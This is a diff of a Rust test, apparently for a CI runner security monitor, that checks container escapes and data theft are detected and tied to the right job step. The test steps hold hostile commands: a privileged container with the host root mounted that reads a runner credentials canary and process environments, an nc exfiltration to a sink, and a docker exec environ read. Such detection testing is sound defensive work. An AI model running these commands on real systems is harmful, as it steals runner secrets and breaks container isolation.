@@ -84,22 +84,38 @@ fn a_steps_containers_are_judged_in_that_step() {
     );
     // Every capability (`--privileged` itself cannot start here: this machine's bounding set
     // lacks CAP_SYS_RESOURCE, which runc then fails to apply), the host's PID namespace and `/`.
+    // The runner's own registration secret, read through the host's `/`.
+    let runner_dir = runner.dir.path().display().to_string();
+    std::fs::write(
+        runner.dir.path().join(".credentials"),
+        "{\"scheme\":\"OAuth\",\"data\":{\"clientId\":\"RUNNER-CRED-CANARY\"}}\n",
+    )
+    .unwrap();
     let escape = format!(
         "set -e\nexport DOCKER_HOST={host}\nworker=$PPID\n\
          docker run --rm --name escape-{tag} --cap-add ALL --cap-drop SYS_RESOURCE --pid=host -v /:/host {image} \
-         sh -c \"grep -q PATH= /proc/$worker/environ && echo environ-read\"\n"
+         sh -c \"grep -q PATH= /proc/$worker/environ && echo environ-read; cat /host{runner_dir}/.credentials\"\n"
     );
     let egress = format!(
         "set -e\nexport DOCKER_HOST={host}\n\
          docker run --rm --name egress-{tag} {image} sh -c 'echo EXFIL-{tag} | nc {BRIDGE_HOST} {port}'\n"
+    );
+    // A container of the host's, running before the job (nobody's): a step that enters it
+    // with `docker exec` is judged for what it does there.
+    let hostbox = format!("hostbox-{tag}");
+    d.docker_ok(&["run", "-d", "--name", &hostbox, image, "sleep", "600"]);
+    let peek = format!(
+        "set -e\nexport DOCKER_HOST={host}\ndocker exec {hostbox} cat /proc/1/environ | tr '\\0' '\\n' | grep '^PATH='\n"
     );
     let output = runner.run_job(&[
         ("twin", &twin),
         ("steal", &steal),
         ("escape", &escape),
         ("egress", &egress),
+        ("peek", &peek),
         MARKER_STEP,
     ]);
+    d.docker_ok(&["rm", "-f", &hostbox]);
     // The attacks happened.
     assert!(output.contains("project source"), "{output}");
     assert!(output.contains("the container's own file"), "{output}");
@@ -110,6 +126,11 @@ fn a_steps_containers_are_judged_in_that_step() {
     );
     assert!(output.contains(TOKEN), "the token was not read: {output}");
     assert!(output.contains("environ-read"), "{output}");
+    assert!(output.contains("RUNNER-CRED-CANARY"), "{output}");
+    assert!(
+        output.contains("PATH=/usr/local/sbin"),
+        "the host container's environment: {output}"
+    );
     let got = received
         .recv_timeout(std::time::Duration::from_secs(10))
         .expect("the sink got nothing");
@@ -155,12 +176,24 @@ fn a_steps_containers_are_judged_in_that_step() {
         "the Worker's environment read from the container: {mine:#?}"
     );
     assert!(
+        read.iter().any(|f| f["step"]["id"] == "escape"
+            && names_container(f, &escape_name)
+            && f["evidence"]["host_path"] == format!("{runner_dir}/.credentials")),
+        "the runner's credentials read through the host's root: {mine:#?}"
+    );
+    assert!(
         by_rule(&mine, "unexpected-egress")
             .iter()
             .any(|f| f["step"]["id"] == "egress"
                 && names_container(f, &format!("egress-{tag}"))
                 && f["evidence"]["port"] == port),
         "the container's connection to the sink: {mine:#?}"
+    );
+    assert!(
+        mine.iter().any(|f| f["step"]["id"] == "peek"
+            && f["rule"] == "process-environ-read"
+            && names_container(f, &hostbox)),
+        "a docker exec into the host's container is the step's that asked: {mine:#?}"
     );
     // The runtime's API was asked, and says so; so does `monitor doctor`.
     let metrics = agent.scrape();
